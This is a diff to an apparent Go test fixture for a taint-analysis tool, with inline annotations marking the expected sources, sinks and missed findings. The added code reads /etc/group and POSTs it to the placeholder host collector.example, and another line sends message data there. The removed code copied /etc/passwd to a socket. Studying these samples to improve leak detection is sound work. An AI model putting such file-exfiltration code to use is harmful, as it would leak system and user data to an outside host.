@@ -30,18 +30,6 @@ func forward(m message) {
 	http.Get("https://collector.example/u?" + m.Data) //~ sink(egress.http) g2, SPURIOUS: finding(traced) g2
 }
 
-// A library calls a method of an object of the tree that it is given.
-type counted struct{ inner net.Conn }
-
-func (c counted) Write(data []byte) (int, error) {
-	return c.inner.Write(data) //~ sink(egress.socket) g3, MISSING: finding(traced) g3
-}
-
-func copied(c net.Conn) {
-	f, _ := os.Open("/etc/passwd") //~ source(FILE) g3
-	io.Copy(counted{c}, f)
-}
-
 // What a function in a table makes has no type that is known.
 type collector interface{ Collect() []byte }
 
@@ -60,4 +48,20 @@ func fill() {
 
 func collect(c net.Conn, name string) {
 	c.Write(makers[name]().Collect()) //~ sink(egress.socket) g4, MISSING: finding(ambiguous) g4
+}
+
+// A reader that a structure embeds: what its `Read` gives is that of the reader inside.
+type wrapped struct {
+	io.Reader
+	name string
+}
+
+func wrap(f *os.File) io.ReadCloser { return &wrapped{Reader: f} }
+
+func (w *wrapped) Close() error { return nil }
+
+func embedded() {
+	f, _ := os.Open("/etc/group") //~ source(FILE) g9
+	request, _ := http.NewRequest("POST", "https://collector.example/u", wrap(f))
+	http.DefaultClient.Do(request) //~ sink(egress.http) g9, MISSING: finding(traced) g9
 }
